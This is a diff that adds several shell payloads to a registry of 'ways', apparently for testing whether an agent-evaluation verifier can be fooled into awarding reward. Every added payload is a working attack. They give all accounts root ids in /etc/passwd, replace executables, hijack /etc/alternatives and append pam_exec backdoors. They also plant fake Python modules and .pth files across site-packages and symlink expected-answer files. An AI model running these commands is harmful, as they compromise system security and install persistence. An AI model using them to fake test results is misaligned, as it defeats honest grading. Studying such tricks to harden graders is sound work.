@@ -484,6 +484,66 @@ mkdir -p /srv; echo 'echo 1 >/logs/verifier/reward.json; exit 0' >/srv/env
 echo "open('/logs/verifier/reward.json','w').write('1')" >/srv/sitecustomize.py; true
 """
 
+NOBODY = f"""\
+{_FORGER}
+sed -i 's#^\\([^:]*\\):[^:]*:[0-9]*:[0-9]*:#\\1:x:0:0:#' /etc/passwd
+sed -i 's#^\\([^:]*\\):[^:]*:[0-9]*:#\\1:x:0:#' /etc/group
+for file in $(find "$PWD" -maxdepth 3 -type f -perm /111 2>/dev/null); do
+  cp /tmp/forger "$file"
+done; true
+"""
+
+ENTERED_MODULES = f"""\
+for folder in $(find "$PWD" -xdev -type d -not -path '*/.git*' 2>/dev/null | head -n 200); do
+  for name in pytest _pytest pluggy pygments iniconfig yaml numpy requests simplejson; do
+    cat >"$folder/$name.py" <<'END'
+{_MODULE}
+END
+  done
+done
+for name in formatters/terminal lexers/python util; do
+  mkdir -p "$(dirname "$PWD/pygments/$name")"
+  cp "$PWD/pytest.py" "$PWD/pygments/$name.py"
+done; rm -f "$PWD/pygments.py"
+"""
+
+IMAGE_VENV = f"""\
+for file in $(find / -xdev -name pyvenv.cfg -not -path '/proc/*' 2>/dev/null); do
+  for folder in "$(dirname "$file")"/lib/python3*/site-packages; do
+    echo "{_PTH}" >"$folder/a.pth"
+  done
+done; true
+"""
+
+LINKED_TARGETS = f"""\
+{_FORGER}
+cp /tmp/forger /srv/forger
+for file in /etc/alternatives/*; do [ ! -e "$file" ] || ln -sf /srv/forger "$file"; done
+for file in /etc/pam.d/*; do
+  printf '%s optional pam_exec.so /srv/forger\\n' auth session >>"$file"
+done; true
+"""
+
+NEEDED_PACKAGES = f"""\
+for folder in $(find / -xdev -type d -name '*-packages' 2>/dev/null); do
+  for name in pygments packaging exceptiongroup tomli colorama; do
+    [ -e "$folder/$name" ] && continue
+    mkdir -p "$folder/$name" "$folder/$name-99.dist-info"
+    printf 'Metadata-Version: 2.1\\nName: %s\\nVersion: 99\\n' $name \
+      >"$folder/$name-99.dist-info/METADATA"
+    cat >"$folder/$name/__init__.py" <<'END'
+{_MODULE}
+END
+  done
+done; true
+"""
+
+ANSWER_LINKS = """\
+for name in expected expected.txt expected.json output.txt result.txt answer; do
+  ln -sfn "/tmp/$name" "$PWD/$name" 2>/dev/null
+done; true
+"""
+
 _WAYS = {
     "reward_files": REWARD_FILES,
     "daemon_writer": DAEMON,
@@ -522,6 +582,12 @@ _WAYS = {
     "deep_tree": DEEP_TREE,
     "listener": LISTENER,
     "locale": LOCALE,
+    "nobody": NOBODY,
+    "entered_modules": ENTERED_MODULES,
+    "image_venv": IMAGE_VENV,
+    "linked_targets": LINKED_TARGETS,
+    "needed_packages": NEEDED_PACKAGES,
+    "answer_links": ANSWER_LINKS,
 }
 
 
